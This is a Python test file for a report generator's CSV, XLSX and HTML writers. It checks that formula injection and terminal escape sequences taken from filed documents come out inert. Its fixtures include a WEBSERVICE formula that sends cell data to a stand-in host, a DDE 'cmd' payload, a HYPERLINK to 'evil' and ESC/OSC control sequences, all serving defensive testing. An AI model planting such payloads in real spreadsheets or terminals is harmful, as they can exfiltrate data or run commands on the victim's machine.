"""Document text in the batch reports is inert: no live formula, no terminal escape.

The hostile text is what a filed document can carry in its evidence, its organisation name, its
sentence or its file name: a formula (`=WEBSERVICE(…)`, `+`, `-`, `@`, after a tab or CR), an error
literal, ESC/OSC sequences and C1 controls.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest

from nianbao.batch.reports import Totals, write_csv, write_html, write_xlsx
from nianbao.batch.state import FileResult, FindingRow
from nianbao.model import Finding, Provenance

FORMULAS = ["=WEBSERVICE(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1", " =HYPERLINK(\"http://x\")"]
ESCAPES = "ok\x1b[2J\x1b[8mhidden\x1b]0;title\x07\x9b31m\x85end"


def hostile_result() -> FileResult:
    findings = [FindingRow(Finding("schema.required", "error", text, text, pointer="/name",
                                   evidence=text, params={"value": -3},
                                   provenance=Provenance(page=1)), sentence=text)
                for text in FORMULAS]
    findings.append(FindingRow(Finding("text.unit", "warning", ESCAPES, ESCAPES, evidence=ESCAPES,
                                       params={"n": 1.5}), sentence="#N/A"))
    return FileResult(path="inbox/=cmd\x1b[31m.txt", sha256="0" * 64, status="ok", format="txt",
                      kind="annual_report", org="=HYPERLINK(\"http://evil\",\"ok\")",
                      credit_code="-1", region="@x", year=2025, findings=findings)


def totals_of(result: FileResult) -> Totals:
    totals = Totals()
    totals.add(result)
    return totals


META = {"inbox": "in\x1b[2Jbox", "ruleset": "r", "nianbao": "0", "generated": "now"}


def test_csv_fields_that_start_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
    path = tmp_path / "findings.csv"
    write_csv(iter([hostile_result()]), path)
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))

    evidence = {r["evidence"] for r in rows[:len(FORMULAS)]}
    # A CR is shown as ␍ (so the text no longer starts a formula); every other one is quoted.
    assert evidence == {"'" + t for t in FORMULAS if t[0] != "\r"} | {"\u240d=1+1"}
    assert rows[0]["org"].startswith("'=HYPERLINK")
    assert rows[0]["region"] == "'@x"
    # A number stays a number: a bare "-1" is no formula, and the year is not quoted.
    assert rows[0]["credit_code"] == "-1"
    assert rows[0]["year"] == "2025"
    for row in rows:
        for value in row.values():
            assert not re.match(r"[\t\r ]*[=+\-@]", value) or re.fullmatch(r"-?\d+", value)


def test_csv_has_no_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "findings.csv"
    write_csv(iter([hostile_result()]), path)
    text = path.read_text(encoding="utf-8-sig")

    assert not re.search("[\x1b\x07\x80-\x9f]", text)
    assert "␛[2J" in text and "<U+009B>" in text


def _sheet_cells(path: Path) -> list[tuple[str, str | None, str]]:
    """(cell type, formula text, raw XML) of every cell in every sheet of the workbook."""
    cells = []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = book.read(name).decode("utf-8")
                for match in re.finditer(r"<c ([^>]*)>(.*?)</c>", xml, re.DOTALL):
                    kind = re.search(r'\bt="(\w+)"', match.group(1))
                    formula = re.search(r"<f>(.*?)</f>", match.group(2))
                    cells.append((kind.group(1) if kind else "n",
                                  formula.group(1) if formula else None, match.group(2)))
    return cells


def test_xlsx_writes_document_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    result = hostile_result()
    path = tmp_path / "findings.xlsx"
    write_xlsx(iter([result]), totals_of(result), META, path)
    cells = _sheet_cells(path)

    assert not [c for c in cells if c[1] is not None], "a formula was written"
    assert not [c for c in cells if c[0] == "e"], "an error value was written"
    book = load_workbook(path)
    found = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "=WEBSERVICE(\"http://x.example/?\"&A1)" in found  # shown as written, as text
    assert "#N/A" in found
    assert 2025 in found and 1 in found  # numbers stay numbers


def test_xlsx_has_no_control_characters(tmp_path: Path) -> None:
    result = hostile_result()
    path = tmp_path / "findings.xlsx"
    write_xlsx(iter([result]), totals_of(result), META, path)
    with zipfile.ZipFile(path) as book:
        text = "".join(book.read(n).decode("utf-8") for n in book.namelist()
                       if n.endswith(".xml"))

    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
    assert not re.search(r"&#(?:[0-8]|1[124-9]|2\d|3[01]|12[7-9]|1[3-5]\d);", text)
    assert "in\u241b[2Jbox" in text  # the inbox path, ESC shown as ␛


def test_an_over_long_cell_is_cut_to_what_a_spreadsheet_holds(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    result = FileResult(path="a.txt", sha256="1" * 64, status="ok", findings=[
        FindingRow(Finding("text.unit", "warning", "m", "m", evidence="长" * 40_000))])
    path = tmp_path / "findings.xlsx"
    write_xlsx(iter([result]), totals_of(result), META, path)
    values = [c.value for row in load_workbook(path)["全部问题 Findings"].iter_rows()
              for c in row]

    assert any(isinstance(v, str) and len(v) == 32_767 and v.endswith("…") for v in values)


def test_html_report_carries_no_control_characters(tmp_path: Path) -> None:
    result = hostile_result()
    path = tmp_path / "report.html"
    write_html(iter([result]), totals_of(result), META, path)
    page = path.read_text(encoding="utf-8")
    data = json.loads(re.search(r'<script[^>]*id="data"[^>]*>(.*?)</script>', page,
                                re.DOTALL).group(1))

    assert not re.search("[\x1b\x07\x80-\x9f]", page)
    assert not re.search("[\x1b\x07\x80-\x9f]", json.dumps(data, ensure_ascii=False))
    assert data["filings"][0]["p"] == "inbox/=cmd␛[31m.txt"
    assert data["meta"]["inbox"] == "in␛[2Jbox"


@pytest.mark.parametrize("text", ["-3", "+12.5", "-0.25"])
def test_plain_numbers_in_text_are_not_quoted(tmp_path: Path, text: str) -> None:
    result = FileResult(path="a.txt", sha256="1" * 64, status="ok", org=text)
    path = tmp_path / "findings.csv"
    write_csv(iter([result]), path)
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))

    assert rows[0]["org"] == text
